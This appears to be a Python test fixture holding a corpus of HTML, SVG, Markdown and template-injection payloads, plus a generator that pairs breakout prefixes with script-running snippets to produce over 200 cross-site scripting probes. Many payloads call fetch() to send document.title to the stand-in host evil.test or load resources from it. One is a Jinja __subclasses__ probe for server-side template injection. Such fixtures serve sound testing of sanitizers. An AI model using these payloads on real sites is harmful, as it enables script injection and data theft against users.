"""Texts that try to run, load, leave or break out when a page shows them as markup."""

_CALL = "fetch('http://evil.test/'+document.title);window.hit=1"
PAYLOADS = [
    f"<script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f'\'><img src=x onerror="{_CALL}">',
    f'" onmouseover="{_CALL}" autofocus onfocus="{_CALL}" x="',
    f"' onload='{_CALL}' x='",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f'<svg onload="{_CALL}"><script>{_CALL}</script></svg>',
    f"</text><script>{_CALL}</script><image href='http://evil.test/i.png'/>",
    f'<details open ontoggle="{_CALL}">x</details>',
    "<iframe srcdoc='<script>parent.window.hit=1</script>'></iframe>",
    "<iframe src=http://evil.test/></iframe>",
    "<img src=http://evil.test/pixel.png>",
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/">',
    '<link rel="stylesheet" href="http://evil.test/x.css">',
    "<style>@import url(http://evil.test/x.css);body{background:url(http://evil.test/b)}</style>",
    '<form action="http://evil.test/"><button autofocus>go</button></form>',
    '<object data="http://evil.test/x"></object><embed src="http://evil.test/y">',
    "![pixel](http://evil.test/p.png) [go](javascript:window.hit=1)",
    "<video><source onerror=window.hit=1></video><body onload=window.hit=1>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "\u202e<script>window.hit=1</script>\u2066\x00\x1b[31m颱風",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
]

_BREAKS = ["", '"', "'", "`", ">", "\">", "'>", "</td>", "</style>", "</script>", "</title>",
           "-->", "]]>", "\x00", "\u202e", "&quot;>"]  # fmt: skip
_RUNS = [
    f"<script>{_CALL}</script>", f"<sCrIpT>{_CALL}</ScRiPt>", f"<img src=x onerror=\"{_CALL}\">",
    f"<svg/onload={_CALL!r}>", f"<input autofocus onfocus=\"{_CALL}\">",
    "<a href=javascript:window.hit=1 autofocus>x</a>", f"<body onpageshow=\"{_CALL}\">",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4='>",
    "<embed src='data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4='>",
    "<style>*{background:url(http://evil.test/c)}</style>",
    "<use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'/>",
    "<math><mtext></table><img src=x onerror=window.hit=1></mtext></math>",
    "<marquee onstart=window.hit=1>x</marquee>",
]  # fmt: skip


def many_payloads() -> list[str]:
    """Return every way out of a slot before every way to run: more than 200."""
    return [*PAYLOADS, *(way_out + runs for way_out in _BREAKS for runs in _RUNS)]
